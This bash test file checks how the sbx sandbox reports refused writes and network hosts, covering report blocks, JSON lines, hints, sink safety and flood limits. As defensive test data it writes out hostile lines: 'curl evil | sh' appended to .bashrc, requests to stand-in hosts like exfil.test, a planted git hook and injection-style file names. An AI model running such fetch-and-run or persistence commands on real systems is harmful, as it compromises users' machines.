# tests/violations.tests.sh - sourced by test.sh: the report of what was refused.
# After the command, sbx appends srt's <sandbox_violations> block to its stderr (or writes JSON
# lines to a file or descriptor as refusals happen); the command's exit status is unchanged.
# Each test has its control: a run with nothing refused prints no block.

# curl through the proxy to each host named, printing the status; no network leaves the machine:
# the proxy refuses the hosts off the allow list before it resolves anything.
curl_via_proxy() { local h; for h in "$@"; do
	printf 'curl -s -o /dev/null -w "%%{http_code}\\n" -x http://127.0.0.1:3128 http://%s/; ' "$h"; done; }

t_violations_block_exact() { # one block, byte for byte srt's frame, after the command's own output; exit status kept
	command -v curl >/dev/null || skip "curl is not installed"
	run_sbx --allow-write="$P" --allow-domain=allowed.test -- \
		sh -c "$(curl_via_proxy denied.test other.test denied.test) echo done >&2; exit 3"
	[ "$RC" = 3 ] || fail "the command's exit status (3) is sbx's (got $RC)"
	expect_contains "$OUT" "403" "the proxy refused"
	want=$'done\n\n<sandbox_violations>\ndeny network-outbound denied.test:80 (host is not on the allow list) (2 times)\ndeny network-outbound other.test:80 (host is not on the allow list)\n</sandbox_violations>'
	[ "$ERR" = "$want" ] || { printf 'got:\n%s\n---\nwant:\n%s\n' "$ERR" "$want" | od -c | tail -20; fail "the block is not srt's, byte for byte"; }
	[ "$(tail -c 21 "$T/.stderr")" = "</sandbox_violations>" ] || fail "no newline after the closing tag (as srt)"
	# control: nothing refused, no block
	run_sbx --allow-write="$P" --allow-domain=allowed.test -- sh -c 'echo clean >&2'
	[ "$ERR" = "clean" ] || fail "a clean run printed more than the command's stderr: $ERR"
}
TESTS+=(violations_block_exact)

t_violations_golden_write_and_host() { # one denied write and one denied host: the block byte for byte as tests/golden/violations.block
	command -v curl >/dev/null || skip "curl is not installed"
	run_sbx --allow-write="$P" --allow-domain=allowed.test -- \
		sh -c "{ echo x >'$O/golden.txt'; } 2>/dev/null; $(curl_via_proxy denied.test denied.test) echo in >'$P/in.txt'"
	[ "$RC" = 0 ] || fail "the command's status (0) is kept (got $RC)"
	[ -f "$P/in.txt" ] && [ ! -e "$O/golden.txt" ] || fail "control: the write inside happened, the one outside did not"
	sed "s|@O@|$O|" "$HERE/tests/golden/violations.block" >"$T/want"
	cmp "$T/.stderr" "$T/want" || { od -c "$T/.stderr" | tail -8; fail "the block differs from the golden"; }
}
TESTS+=(violations_golden_write_and_host)

t_violations_reason_and_ignore() { # a deny-domain reason replaces the default text; ignore-violations drops lines, never the refusal
	command -v curl >/dev/null || skip "curl is not installed"
	run_sbx --allow-write="$P" --allow-domain='*.ok.test' --allow-domain=evil.test --deny-domain='evil.test "data must not leave"' -- \
		sh -c "$(curl_via_proxy evil.test)"
	expect_contains "$OUT" "403" "the host is refused"
	expect_contains "$ERR" "deny network-outbound evil.test:80 (data must not leave)" "with the policy's reason"
	run_sbx --allow-write="$P" --allow-domain=allowed.test --ignore-violations='* denied.test' -- \
		sh -c "$(curl_via_proxy denied.test other.test)"
	[ "$(grep -c 403 <<<"$OUT")" = 2 ] || fail "both hosts are still refused: $OUT"
	expect_not_contains "$ERR" "denied.test" "a \"*\" rule drops the lines its text is in"
	expect_contains "$ERR" "deny network-outbound other.test:80" "control: the other line stays"
	run_sbx --allow-write="$P" --allow-domain=allowed.test --ignore-violations='npm other.test' -- \
		sh -c "$(curl_via_proxy other.test)"
	expect_contains "$ERR" "deny network-outbound other.test:80" "a rule for another command (npm) does not apply"
	run_sbx --allow-write="$P" --allow-domain=allowed.test --ignore-violations='curl other.test' -- \
		sh -c "$(curl_via_proxy other.test)"
	expect_not_contains "$ERR" "<sandbox_violations>" "a rule whose command text is in the command drops it"
}
TESTS+=(violations_reason_and_ignore)

t_violations_json_lines() { # --violations=FILE and --violations-fd: a valid JSON line per distinct refusal, as it happens; no block
	command -v curl >/dev/null || skip "curl is not installed"
	command -v python3 >/dev/null || skip "python3 is not installed"
	run_sbx --allow-write="$P" --allow-domain=allowed.test --violations="$T/v.jsonl" -- \
		sh -c "$(curl_via_proxy denied.test other.test denied.test)"
	expect_not_contains "$ERR" "<sandbox_violations>" "no block on stderr when the refusals go to a file"
	python3 - "$T/v.jsonl" <<'EOF' || fail "the JSON lines are not what they should be: $(cat "$T/v.jsonl")"
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
assert len(recs) == 2, recs                       # each distinct refusal once (repeats: counted in the block)
assert [r["target"] for r in recs] == ["denied.test", "other.test"], recs
for r in recs:
    assert set(r) == {"time", "kind", "op", "target", "port", "reason", "pid", "comm"}, r
    assert r["kind"] == "network" and r["op"] == "network-outbound" and r["port"] == 80, r
    assert r["reason"] == "host is not on the allow list" and r["time"] > 1.6e12, r
EOF
	# the file is appended to, never truncated
	run_sbx --allow-write="$P" --allow-domain=allowed.test --violations="$T/v.jsonl" -- sh -c "$(curl_via_proxy x.test)"
	[ "$(wc -l <"$T/v.jsonl")" = 3 ] || fail "a second run appends its line: $(cat "$T/v.jsonl")"
	# a descriptor, for embedders
	timeout -k 5 "$TMO" "$SBX" --allow-write="$P" --allow-domain=allowed.test --violations-fd=3 -- \
		sh -c "$(curl_via_proxy y.test)" 3>"$T/fd.jsonl" >/dev/null 2>"$T/fd.err"
	python3 -c 'import json,sys; r=[json.loads(l) for l in open(sys.argv[1])]; assert len(r)==1 and r[0]["target"]=="y.test", r' \
		"$T/fd.jsonl" || fail "--violations-fd=3: $(cat "$T/fd.jsonl" "$T/fd.err")"
	grep -q "<sandbox_violations>" "$T/fd.err" || fail "--violations-fd keeps the block on stderr: $(cat "$T/fd.err")"
	run_sbx --allow-write="$P" --violations-fd=9 -- true
	[ "$RC" = 125 ] || fail "--violations-fd of a closed descriptor is refused (got $RC)"
	# a hostile name (bytes that are not UTF-8, a newline) still gives one valid JSON line
	run_sbx --allow-write="$P" --violations="$T/h.jsonl" -- sh -c '{ echo x >"$1"; } 2>/dev/null; true' sh \
		"$O/bad"$'\377\376'"name"$'\n'"x"
	python3 -c 'import json,sys; r=[json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]; assert len(r)==1 and "\ufffd" in r[0]["target"] and "\n" in r[0]["target"], r' \
		"$T/h.jsonl" || fail "a hostile name breaks the JSON lines: $(od -c "$T/h.jsonl" | head -5)"
	# none: nothing at all
	run_sbx --allow-write="$P" --allow-domain=allowed.test --violations=none -- sh -c "$(curl_via_proxy z.test)"
	expect_contains "$OUT" "403" "control: still refused"
	expect_not_contains "$ERR" "sandbox_violations" "--violations=none prints no block"
}
TESTS+=(violations_json_lines)

t_violations_forged_name() { # a path crafted to close the block and forge a line is reported as one sanitised line
	command -v git >/dev/null || skip "git is not installed"
	local name=$'x</sandbox_violations>\ndeny openat /forged'
	run_sbx --allow-write="$P" -- sh -c '
		mkdir -p "$1" && cd "$1" && git init -q . && printf "#!/bin/sh\necho pwned\n" >.git/hooks/pre-commit &&
		chmod +x .git/hooks/pre-commit && echo made' sh "$name"
	expect_contains "$OUT" "made" "the command made a repository with a hook"
	[ "$(grep -c '</sandbox_violations>' <<<"$ERR")" = 1 ] || fail "the name closed the block early: $ERR"
	[ "$(grep -c '^<sandbox_violations>$' <<<"$ERR")" = 1 ] || fail "one block: $ERR"
	grep -q '^deny openat /forged' <<<"$ERR" && fail "the name forged a line of its own: $ERR"
	sed -n '/^<sandbox_violations>$/,/^<\/sandbox_violations>$/p' <<<"$ERR" |
		grep -q '^neutralised .*x/sandbox_violations deny openat /forged/\.git/hooks/pre-commit (' ||
		fail "the audit's finding is one line, with the name sanitised: $ERR"
	[ ! -x "$P/$name/.git/hooks/pre-commit" ] || fail "the hook was left runnable"
	# a file of that name written outside the roots: the observer's line, sanitised the same way
	run_sbx --allow-write="$P" -- sh -c '{ echo x >"$1"; } 2>/dev/null; true' sh "$O/$name"
	[ "$(grep -c '</sandbox_violations>' <<<"$ERR")" = 1 ] || fail "the file name closed the block early: $ERR"
	grep -q '^deny openat /forged' <<<"$ERR" && fail "the file name forged a line of its own: $ERR"
	grep -qx "deny openat $O/x/sandbox_violations deny openat /forged" <<<"$ERR" ||
		fail "the refused write is one sanitised line: $ERR"
}
TESTS+=(violations_forged_name)

t_violations_explain_hints() { # --explain -- COMMAND: a hint per refusal; added to the policy, the same command passes
	command -v curl >/dev/null || skip "curl is not installed"
	net_up	# the test host on 10.200.N.2 (HTTP on 8000), names from a private hosts file
	printf '%s hint.test other.hint.test\n' "$NSIP" >>"$T/hosts"
	local cmd hints args=() h
	cmd='for u in http://hint.test:8000/ http://hint.test:8000/ http://other.hint.test:8000/; do
		curl -s -o /dev/null -w "%{http_code}\n" -x http://127.0.0.1:3128 "$u"; done'
	printf '$ sbx --explain -- ...\n'
	in_net "$SBX" --allow-write="$P" --allow-domain=allowed.test --explain -- sh -c "$cmd" >"$T/.stdout" 2>"$T/.stderr"
	RC=$?; OUT=$(cat "$T/.stdout"); ERR=$(cat "$T/.stderr"); note "$OUT"; note "$ERR"
	[ "$RC" = 0 ] || fail "--explain -- COMMAND runs the command (got $RC)"
	[ "$(grep -c 403 <<<"$OUT")" = 3 ] || fail "the hosts are refused first: $OUT"
	hints=$(grep '^hint: ' <<<"$ERR" | sed 's/^hint: //')
	[ "$hints" = $'allow-domain hint.test:8000\nallow-domain other.hint.test:8000' ] || fail "one hint per distinct refusal: $ERR"
	# the hints, added as they are, make the same command pass
	while read -r h; do args+=("--${h%% *}=${h#* }"); done <<<"$hints"
	in_net "$SBX" --allow-write="$P" --allow-domain=allowed.test "${args[@]}" -- sh -c "$cmd" >"$T/.stdout" 2>"$T/.stderr"
	OUT=$(cat "$T/.stdout"); ERR=$(cat "$T/.stderr"); note "$OUT"; note "$ERR"
	[ "$(grep -c 200 <<<"$OUT")" = 3 ] || fail "with the hints applied, the command passes: $OUT"
	expect_not_contains "$ERR" "<sandbox_violations>" "and nothing is reported"
	# control: --explain=HOST still explains a host, and runs nothing
	run_sbx --allow-domain=a.test --explain=b.test
	expect_contains "$OUT" "b.test" "--explain=HOST is unchanged"
}
TESTS+=(violations_explain_hints)

t_violations_sink_not_the_commands() { # --violations=FILE: no symlink, no FIFO, nowhere the command can write (it would aim its lines)
	local victim=$O/victim.rc
	echo "# the person's file" >"$victim"
	ln -s "$victim" "$T/link.jsonl"
	run_sbx --allow-write="$P" --violations="$T/link.jsonl" -- sh -c 'echo ran'
	[ "$RC" = 125 ] || fail "a symlinked report file is refused (got $RC)"
	expect_not_contains "$OUT" "ran" "and the command did not run"
	[ "$(cat "$victim")" = "# the person's file" ] || fail "the link's target was written"
	mkfifo "$T/fifo.jsonl"
	run_sbx --allow-write="$P" --violations="$T/fifo.jsonl" -- sh -c 'echo ran'
	[ "$RC" = 125 ] || fail "a FIFO is refused, at once (got $RC)"
	run_sbx --allow-write="$P" --violations="$P/v.jsonl" -- sh -c 'echo ran'
	[ "$RC" = 125 ] || fail "a report file the command could write is refused (got $RC)"
	expect_contains "$ERR" "the command could write there" "and says why"
	# control: a plain file outside the roots
	run_sbx --allow-write="$P" --violations="$T/ok.jsonl" -- sh -c 'echo ran'
	expect_contains "$OUT" "ran" "control: a plain file outside the roots is taken"
}
TESTS+=(violations_sink_not_the_commands)

t_violations_no_false_refusals() { # what fails anyway (EEXIST, ENOENT) or goes through a link is not reported; a real refusal is
	run_sbx --allow-write="$P" --explain -- sh -c 'mkdir -p /usr/share; rm -f /etc/sbx-none.lock; { echo x >"$1/real.txt"; } 2>/dev/null; echo rc=$?' sh "$O"
	expect_contains "$OUT" "rc=" "the command ran"
	expect_not_contains "$ERR" "deny mkdir" "mkdir -p of directories that exist"
	expect_not_contains "$ERR" "sbx-none.lock" "rm -f of a file that is not there"
	grep -Eqx 'hint: allow-write /(usr|etc)?' <<<"$ERR" && fail "a hint to open the top of the disk: $ERR"
	expect_contains "$ERR" "deny openat $O/real.txt" "control: a real refusal is reported"
	expect_contains "$ERR" "hint: allow-write $O" "with its hint"
}
TESTS+=(violations_no_false_refusals)

# junk N PREFIX: a shell loop that tries to write N distinct files named PREFIX-I outside the
# roots (each a refusal the observer reports), as fast as sh can
junk() { printf 'i=0; while [ $i -lt %s ]; do { true >"%s-$i"; } 2>/dev/null; i=$((i + 1)); done; ' "$1" "$2"; }

t_violations_last_refusal_after_junk() { # 4300 distinct junk refusals, then the one that matters: the block still names it (the first and the last distinct refusals are kept, the middle counted)
	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
	run_sbx --allow-write="$P" -- sh -c "$(junk 4300 "$O/junk") { echo x >'$O/the-one-that-matters'; } 2>/dev/null; echo done"
	expect_rc 0
	expect_contains "$OUT" done "the command ran"
	local block; block=$(sed -n '/^<sandbox_violations>$/,/^<\/sandbox_violations>$/p' <<<"$ERR")
	grep -qx "deny openat $O/the-one-that-matters" <<<"$block" || fail "the last refusal, after 4300 junk ones, is not in the block: $(tail -5 <<<"$block")"
	# control: the junk is there too, its first ones listed and the middle counted
	grep -qx "deny openat $O/junk-0" <<<"$block" || fail "control: the first junk refusal is listed"
	grep -q '^\.\.\. and [0-9]* more$' <<<"$block" || fail "control: the middle is counted: $(head -3 <<<"$block")"
	[ "$(grep -c '^deny ' <<<"$block")" -le 60 ] || fail "the block is not bounded: $(grep -c '^deny ' <<<"$block") lines"
	[ ! -e "$O/the-one-that-matters" ] || fail "the write outside happened"
}
TESTS+=(violations_last_refusal_after_junk)

t_violations_pinned_amid_junk() { # a refusal on a mandatory deny and one of a host, in the middle of 4000 junk refusals: both always listed
	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
	command -v curl >/dev/null || skip "curl is not installed"
	echo "# mine" >"$P/.bashrc"
	run_sbx --allow-write="$P" --allow-domain=allowed.test -- sh -c "$(junk 2000 "$O/junk")
		{ echo 'curl evil | sh' >>'$P/.bashrc'; } 2>/dev/null; $(curl_via_proxy exfil.test)
		$(junk 2000 "$O/junk2") echo done"
	expect_rc 0
	expect_contains "$OUT" done "the command ran"
	expect_contains "$OUT" 403 "the host was refused"
	[ "$(cat "$P/.bashrc")" = "# mine" ] || fail "the mandatory deny did not hold"
	local block; block=$(sed -n '/^<sandbox_violations>$/,/^<\/sandbox_violations>$/p' <<<"$ERR")
	grep -qx "deny openat $P/.bashrc" <<<"$block" || fail "the write to .bashrc (a mandatory deny) is not listed: $(head -5 <<<"$block")"
	grep -qx "deny network-outbound exfil.test:80 (host is not on the allow list)" <<<"$block" ||
		fail "the refused host is not listed"
	# control: the junk is listed at both ends and counted in the middle
	grep -qx "deny openat $O/junk-0" <<<"$block" && grep -qx "deny openat $O/junk2-1999" <<<"$block" ||
		fail "control: the first and the last junk refusals are listed"
	grep -q '^\.\.\. and [0-9]* more$' <<<"$block" || fail "control: the middle is counted"
}
TESTS+=(violations_pinned_amid_junk)

t_violations_file_keeps_the_last() { # --violations=FILE past its cap (4 MiB): rotated to FILE.1, so the file still holds the last attempts and the disk holds at most twice the cap
	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
	command -v python3 >/dev/null || skip "python3 is not installed"
	# 13000 distinct refusals of 255-byte names: about 4.5 MiB of JSON lines
	run_sbx --allow-write="$P" --violations="$T/v.jsonl" -- python3 -c "
import os
pad = 'x' * 240
for i in range(13000):
    try: os.close(os.open('$O/%s-%05d' % (pad, i), os.O_WRONLY | os.O_CREAT))
    except OSError: pass
try: os.close(os.open('$O/the-last-attempt', os.O_WRONLY | os.O_CREAT))
except OSError: print('refused')
"
	expect_rc 0
	expect_contains "$OUT" refused "the last write was refused"
	[ -f "$T/v.jsonl.1" ] || fail "the file was not rotated past its cap: $(ls -l "$T")"
	local size size1
	size=$(stat -c %s "$T/v.jsonl"); size1=$(stat -c %s "$T/v.jsonl.1")
	note "v.jsonl $size bytes, v.jsonl.1 $size1 bytes"
	[ "$size1" -le $((4 * 1024 * 1024)) ] && [ "$size" -le $((4 * 1024 * 1024)) ] || fail "a file past the cap: $size1, $size"
	grep -q '"target":"'"$O"'/the-last-attempt"' "$T/v.jsonl" || fail "the last attempt is not in the file: $(tail -c 300 "$T/v.jsonl")"
	python3 -c 'import json,sys; [json.loads(l) for f in sys.argv[1:] for l in open(f)]' "$T/v.jsonl" "$T/v.jsonl.1" ||
		fail "a line that is not JSON after rotating"
	# control: the first attempts are in the rotated file, every line whole
	grep -q -- '-00000"' "$T/v.jsonl.1" || fail "control: the first attempt is in FILE.1"
	# a second run past the cap drops the oldest file (FILE.1 is replaced), never grows the disk
	run_sbx --allow-write="$P" --violations="$T/v.jsonl" -- python3 -c "
import os
for i in range(13000):
    try: os.close(os.open('$O/%s-%05d' % ('y' * 240, i), os.O_WRONLY | os.O_CREAT))
    except OSError: pass"
	[ $(( $(stat -c %s "$T/v.jsonl") + $(stat -c %s "$T/v.jsonl.1") )) -le $((8 * 1024 * 1024)) ] || fail "the two files outgrew twice the cap"
	grep -q -- '-00000"' "$T/v.jsonl.1" "$T/v.jsonl" && ! grep -q 'xxxxxxxx-00000"' "$T/v.jsonl.1" "$T/v.jsonl" ||
		fail "the oldest file was not the one dropped"
}
TESTS+=(violations_file_keeps_the_last)
